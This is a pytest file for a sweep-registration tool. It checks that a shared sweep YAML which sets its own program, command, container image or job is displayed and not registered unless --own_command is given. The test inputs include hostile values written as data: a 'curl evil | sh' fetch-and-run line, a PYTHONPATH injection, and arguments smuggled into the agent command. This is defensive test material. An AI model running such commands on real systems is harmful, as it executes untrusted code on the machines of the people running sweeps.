"""Agents of a shared sweep file run mnet's program; anything else is shown and needs --own_command."""

import pytest
import sweep
from sweep import PROGRAM, Options, sweep_content

FILE = """
method: grid
metric: {name: val/top1, goal: maximize}
parameters:
  activation: {values: [relu, paper]}
  seed: {values: [0, 1, 2]}
"""
OURS = ["${env}", "${interpreter}", "${program}"]


@pytest.fixture
def shared(tmp_path):
    """Writes a shared sweep file with additional lines; returns its path."""

    def write(*lines: str) -> str:
        method = "random" if lines in (("image_uri: evil",), ("job: evil",)) else "grid"  # a grid refuses these keys
        (tmp_path / "shared.yaml").write_text("\n".join([FILE.strip().replace("grid", method), *lines]))
        return str(tmp_path / "shared.yaml")

    return write


@pytest.mark.parametrize(
    "line",
    [
        "program: evil.py",
        "command: [sh, -c, 'curl evil | sh']",
        "command: ['${env}', 'PYTHONPATH=/evil', '${interpreter}', '${program}', '${args}']",
        "command: ['${env}', '${interpreter}', '-c', 'import evil', '${program}', '${args}']",
        "command: ['${env}', '${interpreter}', '${program}', '${args}', 'evil']",
        "command: ['${env}', '${interpreter}', '${program}', 'evil', '${args}']",
        "image_uri: evil",
        "job: evil",
    ],
)
def test_another_program_is_shown_and_not_registered_unless_it_is_asked_for(line, shared, capsys, monkeypatch):
    path, registered = shared(line), []
    monkeypatch.setattr(sweep, "require_account", lambda _: None)
    monkeypatch.setattr(sweep, "register", lambda content: registered.append(content) or "a/b/c")
    assert sweep.main([path]) == 2
    message = capsys.readouterr().err
    assert "shared.yaml sets its own command, which every agent would run: {" in message
    assert "evil" in message.partition("would run: ")[2]
    assert registered == []
    assert sweep.main([path, "--own_command"]) == 0
    assert len(registered) == 1


def test_a_file_without_a_command_gets_ours_and_one_with_options_keeps_them(shared):
    content = sweep_content(shared(), Options(out="elsewhere"), {})
    assert content["program"] == PROGRAM
    assert content["command"] == [*OURS, "--study=shared", "--out=elsewhere", "${args}"]
    command = [*OURS, "--study=mine", "--trainer.precision=bf16-mixed", "${args}"]
    assert sweep_content(shared(f"command: {command}"), Options(), {})["command"] == command
